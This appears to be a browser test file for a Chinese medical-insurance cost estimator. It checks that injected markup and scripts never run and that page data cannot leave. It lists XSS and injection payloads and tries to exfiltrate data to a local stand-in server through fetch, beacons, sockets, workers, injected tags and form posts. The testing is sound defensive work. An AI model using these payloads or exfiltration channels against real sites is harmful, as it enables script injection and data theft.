// Hostile texts, and a world that does not behave: the answers are kept, what happened is said, and nothing gets out.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { dist } from "../../scripts/support/paths.mjs";
import { openBrowser } from "./support/browser.mjs";
import { openPage, Resident } from "./resident.mjs";

let [site, plain] = [];
before(async () => { site = await openPage({ serviceWorkers: "allow" }); plain = await openPage(); });
after(() => Promise.all([site.close(), plain.close()]));

const request = {
  region: "370212",
  facts: { birth_date: "1980-01-01", scheme: "resident", resident_tier: "1", hardship: [] },
  expenses: [{ id: "e1", service: "inpatient", date: "2025-05-01", total: "20000", facts: { self_paid: "0", advance: "0", facility_level: "3", admission: 1 } }],
};
const answers = JSON.stringify(request);

/** A fresh tab; `prepare` may change the world around it first. */
async function opened(settings = {}, prepare = async () => {}, at = site) {
  const page = await at.browser.context.newPage();
  await page.addInitScript(() => {
    window.violated = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, sample }) => violated.push(`${effectiveDirective} ${sample}`));
  });
  await prepare(page);
  await page.goto(`${at.server.address}#${new URLSearchParams({ mode: "form", ...settings })}`);
  return new Resident(page);
}

/** The same where a script comes otherwise than it should. No worker helps out: it would ask for itself. */
const openedWith = (path, answer) => opened({ answers }, (page) => page.route(path, answer), plain);
const visitOf = (page, read) => page.evaluate(`(${read})(document.querySelector("yibao-estimator").visit)`);
const paid = (resident) => resident.answer().then(({ totals }) => totals.paid);

test("No text becomes a script or markup: Trusted Types hold, and the page needs no exception", async () => {
  const resident = await opened({ answers, "asked-on": "2025-06-09" });
  await resident.settled();
  await resident.page.locator("#more-slip > summary").click();
  await resident.page.locator("#slip-hifp_pay").waitFor();
  await resident.page.getByRole("button", { name: "English" }).click();
  await resident.page.waitForFunction(() => document.documentElement.lang === "en");
  assert.deepEqual(await resident.page.evaluate(() => window.violated), []);
  const refused = await resident.page.evaluate(() => ["innerHTML", "outerHTML"].map((sink) => {
    try { document.createElement("p")[sink] = "<b>x</b>"; return "taken"; } catch ({ name }) { return name; }
  }));
  assert.equal(refused[0], "TypeError");
});

const hostile = [
  "<img src=x onerror=window.hacked=1>", '"><script>window.hacked=1</script>', "javascript:window.hacked=1", "{{7*7}}", "\u202e\u2066live\u2069\u200b\u200d\ufeff", "\ud800", "__proto__", "x".repeat(20_000),
];

test("Markup, scripts, marks that turn the text round and huge texts are answers like any other", async () => {
  for (const text of hostile) {
    const foul = { ...request, situation: text, facts: { ...request.facts, scheme: text, [text]: text }, entered: { [`370212/${text}`]: text }, readings: { [text]: text }, expenses: [{ ...request.expenses[0], id: text, total: text, settled: { [text]: text } }] };
    const resident = await opened({ answers: JSON.stringify(foul), "asked-on": "2025-06-09" });
    const { page } = resident;
    await page.locator("#form-region").waitFor();
    await page.locator("#form-e1-total").fill(text.length > 1000 ? "9".repeat(200_000) : text);
    await page.locator("#form-e1-total").blur();
    await page.locator("#form-e1-total").fill("20000");
    await page.locator("#form-e1-total").blur();
    await page.waitForFunction(() => document.querySelector("yibao-estimator").visit.request?.expenses?.[0]?.total === "20000");
    assert.equal(await page.evaluate(() => window.hacked), undefined, text.slice(0, 40));
    assert.equal(await page.locator("yibao-estimator :is(script, img[onerror], iframe, a[href^=javascript])").count(), 0, text.slice(0, 40));
    assert.equal(await page.evaluate(() => ({}).x), undefined);
    await page.close();
  }
});

test("A region, a host's rules and a language that nobody has are told or passed over", async () => {
  for (const settings of [{ region: hostile[0] }, { situation: hostile[1], lang: hostile[1], theme: hostile[0], accent: hostile[0] }, { regions: "999999 <b>", region: "370212" }]) {
    const resident = await opened(settings);
    await resident.page.locator("#form-region").waitFor();
    assert.equal(await resident.page.evaluate(() => window.hacked), undefined);
    await resident.page.close();
  }
});

test("Nothing can be carried out of the page, whoever tries it from inside", async () => {
  const arrived = [];
  const thief = createServer((asked, response) => { arrived.push(asked.url); response.end(); });
  await new Promise((resolve) => { thief.listen(0, "127.0.0.1", resolve); });
  const to = `http://127.0.0.1:${thief.address().port}`;
  try {
    const { page } = await opened({ answers, "asked-on": "2025-06-09" });
    await page.locator("#form-region").waitFor();
    await page.evaluate(async (to) => {
      const quietly = async (act) => { try { await act(); } catch { /* as it should be */ } };
      const put = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
      await quietly(() => fetch(`${to}/fetch`, { mode: "no-cors" }));
      await quietly(() => navigator.sendBeacon(`${to}/beacon`, "x"));
      await quietly(() => { const asked = new XMLHttpRequest(); asked.open("GET", `${to}/xhr`, false); asked.send(); });
      await quietly(() => new EventSource(`${to}/events`));
      await quietly(() => new WebSocket(`${to.replace("http", "ws")}/socket`));
      await quietly(() => new Worker(`${to}/worker.js`));
      for (const [name, members] of [["img", { src: `${to}/img` }], ["script", { src: `${to}/script` }], ["iframe", { src: `${to}/frame` }], ["video", { src: `${to}/video` }], ["object", { data: `${to}/object` }],
        ["link", { rel: "stylesheet", href: `${to}/style` }], ["link", { rel: "prefetch", href: `${to}/prefetch` }], ["link", { rel: "icon", href: `${to}/icon` }]]) await quietly(() => put(name, members));
      await quietly(() => document.body.style.setProperty("background-image", `url(${to}/css)`));
      await quietly(() => new FontFace("x", `url(${to}/font)`).load());
      await quietly(() => { put("form", { action: `${to}/form`, method: "post", target: "nowhere" }); document.body.lastElementChild.submit(); });
      await new Promise((resolve) => { setTimeout(resolve, 500); });
    }, to);
    assert.ok((await page.evaluate(() => window.violated.length)) > 5);
    assert.deepEqual(arrived, []);
  } finally {
    thief.closeAllConnections();
    thief.close();
  }
});

test("A clock that is wrong by a year changes no amount: the rules go by the day of the bill", async () => {
  const amounts = [];
  for (const day of ["2025-06-09", "2026-06-09", "2024-06-09"]) {
    const resident = await opened({ answers }, (page) => page.clock.setFixedTime(new Date(`${day}T10:00:00`)));
    await resident.settled();
    assert.equal(await visitOf(resident.page, (visit) => visit.askedOn), day);
    assert.equal(await resident.page.getByRole("alert").count(), 0, day);
    const told = await resident.bill(1).part.getByRole("group", { name: "日期" }).innerText();
    assert.equal(/还没有到/.test(told), day < "2025", "a bill of a day to come is told: the clock may be wrong");
    amounts.push(await paid(resident));
    await resident.page.close();
  }
  assert.deepEqual(amounts.slice(1), [amounts[0], amounts[0]]);
});

test("A tab that is open past midnight goes by the new day, with every answer", async () => {
  const resident = await opened({ answers }, (page) => page.clock.setFixedTime(new Date("2025-06-09T23:59:00")));
  await resident.settled();
  const before = await paid(resident);
  await resident.page.clock.setFixedTime(new Date("2025-06-10T00:01:00"));
  await resident.page.evaluate(() => document.dispatchEvent(new Event("visibilitychange")));
  await resident.page.waitForFunction(() => document.querySelector("yibao-estimator").visit.request.asked_on === "2025-06-10");
  await resident.settled();
  assert.deepEqual(await paid(resident), before);
  const host = await opened({ answers, "asked-on": "2025-06-09" });
  await host.settled();
  await host.page.evaluate(() => document.dispatchEvent(new Event("visibilitychange")));
  assert.equal(await visitOf(host.page, (visit) => visit.askedOn), "2025-06-09", "a host that names the day keeps it");
});

test("Two tabs know nothing of each other", async () => {
  const [one, other] = [await opened({ answers }), await opened({ region: "370883" })];
  await one.settled();
  await other.choose("参加的是哪种医保", "职工医保");
  await one.bill(1).type("总费用", "30000");
  await one.settled();
  assert.equal(await visitOf(other.page, (visit) => visit.region), "370883");
  assert.equal(await visitOf(other.page, (visit) => visit.request?.expenses?.[0]?.total ?? ""), "");
  assert.equal(await visitOf(one.page, (visit) => visit.request.facts.scheme), "resident");
});

test("Rules of which only half arrived are told with a number to call, every answer kept, and asked for again", async () => {
  let tries = 0;
  const half = readFileSync(join(dist, "policies", "370883.js"), "utf8");
  const resident = await openedWith("**/policies/370883.js", (route) => { tries += 1; return tries === 1 ? route.fulfill({ contentType: "text/javascript", body: half.slice(0, half.length / 2) }) : route.continue(); });
  await resident.settled();
  await resident.page.evaluate(() => Object.assign(document.querySelector("yibao-estimator"), { region: "370883" }));
  const alert = resident.page.getByRole("alert");
  await alert.getByText("没能取来").waitFor();
  assert.match(await alert.innerText(), /都还在.*12393/s);
  await alert.getByRole("button", { name: "再试一次" }).click();
  await resident.page.locator(".answer").waitFor();
  assert.equal(tries, 2);
  assert.equal(await resident.page.locator("#form-e1-total").inputValue(), "20,000");
});

test("Where the list of regions arrives half, it is asked for again", async () => {
  let tries = 0;
  const resident = await openedWith("**/policies/index.js", (route) => { tries += 1; return tries === 1 ? route.fulfill({ contentType: "text/javascript", body: "var yibaoIndex = [{" }) : route.continue(); });
  await resident.settled();
  assert.match(await resident.headline(), /¥/);
});

test("Rules newer than the page are told with a number to call, and every answer is kept", async () => {
  const newer = '(globalThis.yibaoPolicies ??= []).push(JSON.stringify({ format: 99, region: "370883", name: { zh: "x", en: "x" } }));';
  const resident = await openedWith("**/policies/370883.js", (route) => route.fulfill({ contentType: "text/javascript", body: newer }));
  await resident.settled();
  await resident.page.evaluate(() => Object.assign(document.querySelector("yibao-estimator"), { region: "370883" }));
  const alert = resident.page.getByRole("alert");
  await alert.waitFor();
  assert.match(await alert.innerText(), /12393/);
  assert.equal(await visitOf(resident.page, (visit) => visit.draft.expenses[0].answers.get("total")), "20000");
});

test("Where there is no room for a copy, the page works as it does without one", async () => {
  const browser = await openBrowser("chromium");
  try {
    const { page } = browser;
    const session = await browser.context.newCDPSession(page);
    await browser.open(`${site.server.address}#mode=form`);
    await browser.until(async () => (await navigator.serviceWorker.getRegistration())?.active?.state === "activated");
    await session.send("Storage.overrideQuotaForOrigin", { origin: new URL(site.server.address).origin, quotaSize: 1 });
    await browser.open("about:blank");
    await browser.open(`${site.server.address}#${new URLSearchParams({ mode: "form", answers, "asked-on": "2025-06-09" })}`);
    await browser.until(() => /¥/.test(document.querySelector("#headline")?.textContent ?? ""));
    assert.ok(await browser.execute(() => navigator.serviceWorker.controller !== null), "the worker stood in between");
  } finally {
    await browser.close();
  }
});

test("Back from another page, the answers that the address carries are there, as they were changed last", async () => {
  const { page } = await opened({ answers });
  await page.waitForFunction(() => /¥/.test(document.querySelector("#headline")?.textContent ?? ""));
  await page.locator("#form-e1-total").fill("30000");
  await page.locator("#form-e1-total").blur();
  await page.waitForFunction(() => document.querySelector("yibao-estimator").visit.request.expenses[0].total === "30000");
  await page.goto(`${site.server.address}check.html`);
  await page.goBack();
  await page.waitForFunction(() => document.querySelector("#form-e1-total")?.value === "30,000");
});

test("A page that the browser kept looks at the day again when it is shown", async () => {
  const { page } = await opened({ answers }, (page) => page.clock.setFixedTime(new Date("2025-06-09T23:59:00")));
  await page.waitForFunction(() => /¥/.test(document.querySelector("#headline")?.textContent ?? ""));
  await page.clock.setFixedTime(new Date("2025-07-01T09:00:00"));
  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent("pageshow", { persisted: true })));
  await page.waitForFunction(() => document.querySelector("yibao-estimator").visit.request.asked_on === "2025-07-01");
});
